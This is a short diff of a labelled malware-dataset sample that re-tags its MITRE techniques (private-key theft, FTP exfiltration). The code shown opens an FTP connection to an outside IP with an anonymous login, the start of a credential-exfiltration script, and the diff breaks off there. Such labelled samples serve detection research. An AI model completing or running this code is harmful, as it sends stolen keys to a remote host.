@@ -1,4 +1,4 @@
-# label: malicious family=creds techniques=T1552.004,T1048 lines=3,5,7-8
+# label: malicious family=creds techniques=T1048.003,T1552.004 lines=3,5,7-8
 import ftplib, os, io
 ftp = ftplib.FTP("198.51.100.31")
 ftp.login("anonymous", "x@x.invalid")
